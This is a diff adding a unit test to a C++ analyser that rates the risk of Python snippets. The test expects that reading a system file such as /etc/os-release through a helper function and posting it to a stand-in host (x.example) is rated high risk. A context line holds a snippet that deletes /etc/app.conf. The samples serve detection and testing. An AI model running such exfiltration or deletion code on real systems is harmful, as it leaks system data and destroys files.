@@ -143,3 +143,12 @@ TEST(AssessBindings, ATablesItemByAConstantKeyIsThatItem) {
   EXPECT_EQ(level("import os\nP = {'conf': '/etc/app.conf', 'out': 'out.txt'}\nos.remove(P['conf'])\n"),
             RiskLevel::blocked);
 }
+
+TEST(AssessBindings, AFunctionThatFillsItsArgumentFillsTheCallers) {
+  auto fill = [](const char* path) {
+    return std::string("import requests\ndef fill(lst):\n    lst.append(open('") + path +
+           "').read())\nx = []\nfill(x)\nrequests.post('https://x.example/a', json=x)\n";
+  };
+  EXPECT_EQ(level(fill("/etc/os-release")), RiskLevel::high);
+  EXPECT_EQ(level(fill("notes.txt")), RiskLevel::medium);
+}
